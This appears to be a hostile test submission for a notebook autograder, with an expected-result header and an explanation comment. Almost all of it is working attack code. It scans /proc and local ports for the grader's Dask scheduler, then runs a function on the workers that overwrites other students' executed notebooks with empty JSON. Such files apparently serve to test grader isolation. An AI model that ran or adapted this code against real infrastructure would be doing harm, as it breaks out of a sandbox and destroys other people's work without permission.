# expect: withdraw=zero
# why: looks for the grader's Dask scheduler (ports in the process table, the usual 8786, whatever listens on loopback) and, if it answers, runs code on the workers that overwrites other students' executed notebooks
# %% withdraw
import glob
import os
import re
import socket

_ports = {8786, 8787, 8788, 8789}
for _cmd in glob.glob("/proc/*/cmdline"):
    try:
        _ports |= {int(p) for p in re.findall(rb":(\d{4,5})", open(_cmd, "rb").read())}
    except (OSError, ValueError):
        pass
try:
    for _line in open("/proc/net/tcp").read().splitlines()[1:]:
        _local, _state = _line.split()[1], _line.split()[3]
        if _state == "0A":
            _ports.add(int(_local.split(":")[1], 16))
except OSError:
    pass
_open = []
for _port in sorted(_ports):
    for _host in ("127.0.0.1", "10.0.2.2", socket.gethostname()):
        try:
            with socket.create_connection((_host, _port), timeout=0.2):
                _open.append((_host, _port))
        except OSError:
            pass


def _overwrite():
    import glob
    import os
    for path in glob.glob(os.path.join(os.getcwd(), "..", "**", "autograded", "*", "*", "*.ipynb"), recursive=True):
        open(path, "w").write("{}")


for _host, _port in _open:
    for _scheme in ("tcp", "tls"):
        try:
            from distributed import Client
            with Client(f"{_scheme}://{_host}:{_port}", timeout=2) as _client:
                _client.run(_overwrite)
        except Exception:
            pass
print("open ports:", _open)


def withdraw(lock, account, amount):
    pass
